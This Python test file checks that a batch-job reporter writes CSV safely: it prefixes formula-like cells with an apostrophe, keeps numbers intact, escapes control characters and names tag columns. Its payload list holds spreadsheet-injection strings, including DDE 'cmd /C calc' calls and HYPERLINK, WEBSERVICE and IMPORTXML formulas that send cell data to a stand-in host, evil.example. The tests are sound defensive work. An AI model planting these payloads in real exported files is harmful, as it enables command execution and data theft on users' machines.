"""Rows as CSV: whole, harmless, and read back as they were."""

import csv
import io
import re
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from batchgen.ledger import JobRow
from batchgen.reporter.table_files import FORMULA, guarded, header, lines
from batchgen.reporter.tables import IMAGES, JOBS, MODERATED, RERUN, USAGE, Column, with_tags

PAYLOADS = [
    *(f"{sign}{rest}" for sign in "=+-@|%" for rest in ("1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)", "A1")),
    '=HYPERLINK("http://evil.example?x="&A1,"click")', '=WEBSERVICE("http://evil.example")', '=DDE("cmd";"/C")',
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201",
    '=1+1";=1+1', '="""x', "=1\n=2", "%0A=1+1", "|calc", "=cmd|'/C calc'!'A1'", "@import",
]  # fmt: skip


def read(text: str) -> list[dict[str, str]]:
    """CSV as another program reads it."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def written(columns: Any, rows: Any) -> list[dict[str, str]]:
    """Rows through CSV and back."""
    return read(header(columns) + "".join(lines(columns, rows)))


def test_there_are_forty_payloads() -> None:
    """The list of payloads does not shrink."""
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula(payload: str, job: Callable[..., JobRow], tagged: Callable[..., str]) -> None:
    """Whatever a prompt, an id, a message or a tag begins with, an apostrophe stands before it."""
    row = job(prompt=payload, job_id=payload, message=payload, tags=tagged(**{"category": payload, payload: "x"}))
    columns = with_tags(JOBS, ["category", payload])
    (cells,) = written(columns, [row])
    assert [name for name in cells if name[0] in FORMULA] == []
    assert [cells[name] for name in ("prompt", "job_id", "message", "category")] == [f"'{payload}"] * 4


def test_numbers_stay_numbers(job: Callable[..., JobRow]) -> None:
    """A number is never quoted or prefixed, not even a negative one."""
    assert guarded([-5, -0.5, None]) == [-5, -0.5, None]
    (cells,) = written(JOBS, [job(seconds=-0.5)])
    assert cells["confirmed_micro_usd"] == "42000"
    assert cells["seconds"] == "-0.5"


CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_text_survives(text: str) -> None:
    """Commas, quotes, line feeds and lone carriage returns come back; what a terminal would obey is spelled out."""
    (cells,) = written([Column("prompt", lambda row: row)], [text])
    spelled = CONTROL.sub(lambda found: f"\\x{ord(found[0]):02x}", text)
    assert cells["prompt"] in {spelled, f"'{spelled}"}


def test_a_tag_has_its_own_name_unless_it_is_taken(job: Callable[..., JobRow], tagged: Callable[..., str]) -> None:
    """`category` stays `category`; a tag named like a column gets `tag_` before its name."""
    row = job(tags=tagged(category="seating", state="Ohio", tag_state="OH"))
    columns = with_tags(JOBS, ["category", "state", "tag_state"])
    assert [column.name for column in columns[len(JOBS) :]] == ["category", "tag_state", "tag_tag_state"]
    (cells,) = written(columns, [row])
    assert (cells["state"], cells["tag_state"], cells["tag_tag_state"]) == ("done", "Ohio", "OH")


def test_a_job_without_a_tag_has_an_empty_cell(job: Callable[..., JobRow], tagged: Callable[..., str]) -> None:
    """Jobs need not have the same tags."""
    rows = [job(tags=tagged(a="1")), job(tags=tagged(b="2")), job()]
    cells = written(with_tags(JOBS, "ab"), rows)
    assert [(c["a"], c["b"]) for c in cells] == [("1", ""), ("", "2"), ("", "")]


def test_the_columns_that_scripts_rely_on() -> None:
    """Names and order of the columns; new ones may come, these stay."""
    assert header(IMAGES).strip() == (
        "job_id,job_key,slot,state,path,sha256,bytes,width,height,format,model,size,quality,provider,cost_micro_usd,prompt,"
        "flags,reason,fault,review,note,accepted"
    )
    assert header(RERUN).strip() == "job_id,slot,prompt,note,path,job_key,sha256"
    money = {"confirmed_micro_usd", "estimated_micro_usd", "at_risk_micro_usd", "not_charged_micro_usd"}
    for columns in (JOBS, USAGE):
        assert money <= {column.name for column in columns}
    assert header(MODERATED).startswith("id,prompt,code,categories,slots")
